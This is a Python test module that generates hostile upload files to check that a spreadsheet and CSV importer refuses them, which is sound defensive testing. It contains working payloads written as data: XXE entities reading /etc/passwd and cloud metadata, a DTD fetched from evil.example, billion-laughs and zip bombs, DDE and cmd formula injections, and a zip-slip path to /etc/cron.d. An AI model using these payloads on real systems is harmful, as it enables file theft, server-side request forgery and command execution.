"""More than two hundred files nobody should upload, made from a fixed seed: (name, bytes).

Run as a program it reads each file of a folder as an upload, in one process that made none of them, and prints a line
of JSON per file, then the most memory it ever used.
"""

from __future__ import annotations

import io
import json
import re
import sys
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from random import Random

from sqlalchemy import create_engine
from sqlalchemy.orm import Session

from feedback.foundation.clock import monotonic
from feedback.foundation.errors import Refused
from feedback.foundation.spreadsheets.xls import OLE
from feedback.records.actions.reading import Upload, read_upload
from tests.foundation.spreadsheets.books import MAIN, TYPES, WORKBOOK, archive, sheet
from tests.foundation.spreadsheets.old_letters import TEXT, as_tcvn3, as_vni
from tests.foundation.spreadsheets.test_xls import workbook

DATA = Path(__file__).parent / "data"
AS_OF = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
HEADER = "Mã hồ sơ;Mã TTHC;Tên TTHC;Ngày tiếp nhận;Ngày hẹn trả;Trạng thái\n"
LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {chr(98 + n)} '{('&' + chr(97 + n) + ';') * 10}'>" for n in range(9))
    + "]>"
)
XXE = (
    LAUGHS,
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "http://169.254.169.254/latest/meta-data">]>',
    '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///dev/random"> %p;]>',
)
PARTS = (
    "xl/workbook.xml",
    "xl/_rels/workbook.xml.rels",
    "xl/worksheets/sheet1.xml",
    "xl/sharedStrings.xml",
    "xl/styles.xml",
)
FORMULAS = (
    "=cmd|'/c calc'!A1",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    '=HYPERLINK("http://evil.example","bấm")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "＝1+1",
    '=IMPORTXML("a","b")',
)
OTHER_KINDS = (
    b"%PDF-1.7\n",
    b"\x89PNG\r\n\x1a\n",
    b"\xff\xd8\xff\xe0",
    b"{\\rtf1 x}",
    b"\x1f\x8b\x08\0",
    b"Rar!\x1a\x07",
    b"7z\xbc\xaf\x27\x1c",
    b"MZ\x90\0",
    b"\x7fELF",
    b"GIF89a",
    b"SQLite format 3\0",
    b"\xca\xfe\xba\xbe",
    b"BZh9",
    b"\xfd7zXZ\0",
    b"OggS",
    b"ID3",
)


def zipped(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as out:
        for name, content in parts.items():
            out.writestr(name, content)
    return stream.getvalue()


def bombs() -> Iterator[tuple[str, bytes]]:
    zeros = b"\0" * 210 * 1024 * 1024
    yield "bomb-part", archive({"xl/media/a.bin": zeros})
    yield "bomb-sheet", archive({"xl/worksheets/sheet1.xml": b"<worksheet>" + b" " * len(zeros) + b"</worksheet>"})
    inner = zipped({"a": zeros})
    yield "bomb-nested", archive({f"xl/embeddings/{n}.zip": inner for n in range(20)})
    yield "bomb-entries", archive({f"xl/media/{n}.bin": b"x" for n in range(5_000)})
    yield (
        "bomb-strings",
        archive({"xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">' + "<si><t>a</t></si>" * 3_000_000 + "</sst>"}),
    )
    yield (
        "bomb-styles",
        archive({"xl/styles.xml": f'<styleSheet xmlns="{MAIN}">' + "<cellXfs><xf/></cellXfs>" * 1_000_000}),
    )
    yield (
        "bomb-merges",
        archive(rows="", after="<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 200_000 + "</mergeCells>"),
    )
    yield "bomb-depth", archive({"xl/worksheets/sheet1.xml": "<a>" * 200_000})
    yield "bomb-attributes", archive(rows="<row " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>")
    yield (
        "bomb-sheets",
        archive(
            {"xl/workbook.xml": WORKBOOK.replace("</sheets>", '<sheet name="x" r:id="rId1"/>' * 50_000 + "</sheets>")}
        ),
    )


def odd_sheets() -> Iterator[tuple[str, bytes]]:
    wide = "".join("<c><v>1</v></c>" for _ in range(1_000_000))
    yield "columns-1000000", archive(rows=f"<row>{wide}</row>")
    yield (
        "dimension-1000000",
        archive(
            {
                "xl/worksheets/sheet1.xml": sheet("<row><c><v>1</v></c></row>").replace(
                    "<sheetData>", '<dimension ref="A1:ZZZZZ99999999"/><sheetData>'
                )
            }
        ),
    )
    for place in ("XFE1", "A1048577", "ZZZZZZ1", "1A", "A0", "A-1", "", "Ａ１", "A" * 10_000, "A99999999999999999999"):
        yield f"cell-{place[:8]}", archive(rows=f'<row><c r="{place}"><v>1</v></c></row>')
    for number in ("0", "-5", "99999999999", "1e9", "x", "1048577"):
        yield f"row-{number}", archive(rows=f'<row r="{number}"><c><v>1</v></c></row>')
    for value in ("1e400", "-1e400", "nan", "inf", "9" * 400, "0x10", "", "1,5", "2958466", "-1", "1e-320"):
        yield f"value-{value[:8]}", archive(rows=f'<row><c s="1"><v>{value}</v></c></row>')
    for kind in ("s", "b", "e", "d", "str", "inlineStr", "zzz"):
        yield f"kind-{kind}", archive(rows=f'<row><c t="{kind}"><v>99999999</v></c></row>')


def entities() -> Iterator[tuple[str, bytes]]:
    for number, doctype in enumerate(XXE):
        for part in PARTS:
            yield (
                f"xxe-{number}-{part.rsplit('/', 1)[-1]}",
                archive({part: f"<?xml version='1.0'?>{doctype}<x>&y;&j;</x>"}),
            )
    yield (
        "xxe-utf16",
        archive({"xl/worksheets/sheet1.xml": f"<?xml version='1.0'?>{XXE[1]}<x>&y;</x>".encode("utf-16")}),
    )
    yield "xml-alone", f"<?xml version='1.0'?>{XXE[1]}<x>&y;</x>".encode()
    yield "xml-laughs", f"<?xml version='1.0'?>{LAUGHS}<x>&j;</x>".encode()


def locked_and_armed() -> Iterator[tuple[str, bytes]]:
    yield "macro", archive({"xl/vbaProject.bin": b"x"})
    yield "macro-capitals", archive({"XL/VBAPROJECT.BIN": b"x"})
    plain = bytearray(archive(rows="<row/>"))
    at = plain.find(b"PK\x01\x02")
    while at >= 0:
        plain[at + 8] |= 1
        at = plain.find(b"PK\x01\x02", at + 4)
    yield "password-zip", bytes(plain)
    yield "password-ooxml", OLE + b"\0" * 512 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 512
    yield (
        "password-xls",
        workbook().replace(b"\x09\x08\x10\x00\x00\x06\x05\x00", b"\x2f\x00\x04\x00\x00\x06\x05\x00", 1),
    )
    yield (
        "slip",
        zipped(
            {"../../etc/cron.d/x": b"x", "xl/workbook.xml": WORKBOOK.encode(), "[Content_Types].xml": TYPES.encode()}
        ),
    )
    yield "docx", zipped({"word/document.xml": b"<x/>", "[Content_Types].xml": TYPES.encode()})
    yield "ods", zipped({"content.xml": b"<x/>", "mimetype": b"application/vnd.oasis.opendocument.spreadsheet"})
    for number, formula in enumerate(FORMULAS):
        cells = "".join(
            f'<c t="inlineStr"><is><t>{_xml(text)}</t></is></c>' for text in (*HEADER.strip().split(";"), formula)
        )
        yield (
            f"formula-{number}.xlsx",
            archive(rows=f"<row>{cells}</row><row><c><f>{_xml(formula)}</f><v>1</v></c></row>"),
        )
        quoted = formula.replace('"', '""')
        yield (
            f"formula-{number}.csv",
            (HEADER + f'"{quoted}";"{quoted}";"{quoted}";"{quoted}";"{quoted}";"{quoted}"\n').encode(),
        )


def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace("\t", "&#9;")


def broken(chance: Random) -> Iterator[tuple[str, bytes]]:
    """Real exports cut off or with bytes turned, and noise."""
    for file in sorted(DATA.glob("[A-H]_*")):
        whole = file.read_bytes()
        for number in range(4):
            yield f"cut-{number}-{file.name}", whole[: chance.randrange(len(whole))]
            turned = bytearray(whole)
            for _ in range(chance.randrange(1, 200)):
                turned[chance.randrange(len(turned))] = chance.randrange(256)
            yield f"turned-{number}-{file.name}", bytes(turned)
    for number in range(15):
        yield f"noise-{number}", chance.randbytes(chance.randrange(1, 50_000))
        yield f"noise-xls-{number}", OLE + chance.randbytes(chance.randrange(1, 20_000))
    for number, head in enumerate(OTHER_KINDS):
        yield f"kind-{number}", head + chance.randbytes(3_000)


def texts() -> Iterator[tuple[str, bytes]]:
    yield "empty", b""
    yield "blanks", b" \r\n\t" * 1_000
    yield "bom", b"\xef\xbb\xbf"
    yield "bom16", b"\xff\xfe"
    yield "nul", HEADER.encode() + b"a;b\0;c\n"
    yield "quote", HEADER.encode() + b'"never closed;' * 100
    yield "quote-long", HEADER.encode() + b'"' + b"x" * 5_000_000
    yield "columns-csv", b";".join([b"x"] * 1_000_000) + b"\n"
    yield "commas", b"," * 20_000_000
    yield "line-long", b"x" * 30_000_000
    yield "sep-odd", b"sep=\xc3\xa9\na;b\n"
    yield "utf16-odd", HEADER.encode("utf-16")[:-1]
    yield "utf16-surrogate", b"\xff\xfe" + HEADER.encode("utf-16-le") + b"\x00\xd8" * 50
    yield "mixed", HEADER.encode() + as_tcvn3(TEXT) + b"\n" + as_vni(TEXT).encode("cp1252")
    yield "controls", HEADER.encode() + bytes(range(1, 32)) * 50
    yield "bidi", (HEADER + "\u202eH50\u2066;\u200b;\ufeff;\U000e0041;\ud7ff;x\n").encode()
    yield "combining", (HEADER + "a" + "\u0301" * 100_000 + ";b\n").encode()
    yield (
        "dates",
        (HEADER + "99/99/9999;31/02/2026;0/0/0;1/1/99999999;٣/٤/٢٠٢٦;-1\n").encode(),
    )
    yield "html-deep", b"<table><tr><td>" * 20_000
    yield "html-span", b"<table>" + b"<tr><td colspan=999999999 rowspan=999999999>x</td></tr>" * 2_000
    yield "html-wide", b"<table><tr>" + b"<td>x" * 1_000_000
    yield (
        "html-script",
        b"<html><script>while(1){}</script><table><tr><td><img src=file:///etc/passwd>x</td></tr></table>",
    )
    yield "html-none", b"<!doctype html><title>Dang nhap</title><form></form>"
    yield "html-entities", b"<table><tr><td>" + b"&#x110000;&#0;&nope;&amp" * 50_000


def corpus() -> Iterator[tuple[str, bytes]]:
    for part in (bombs(), odd_sheets(), entities(), locked_and_armed(), broken(Random(20261122)), texts()):
        yield from part


def say(line: dict[str, object]) -> None:
    sys.stdout.write(json.dumps(line) + "\n")


def main(folder: str, database_url: str) -> None:
    """Reads what lies in the folder, one file after the other, as the import does."""
    with Session(create_engine(database_url)) as session:
        for file in sorted(Path(folder).iterdir()):
            began = monotonic()
            try:
                told = f"{len(read_upload(session, Upload(file.name, file.read_bytes(), AS_OF)).rows)} dòng"
            except Refused as refusal:
                told = refusal.message
            say({"name": file.name, "told": told, "seconds": round(monotonic() - began, 2)})
    # Not ru_maxrss: that also counts what the process that started this one once used.
    peak = re.search(r"VmHWM:\s*(\d+) kB", Path("/proc/self/status").read_text())
    say({"memory": int(peak[1]) * 1024 if peak else 0})


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
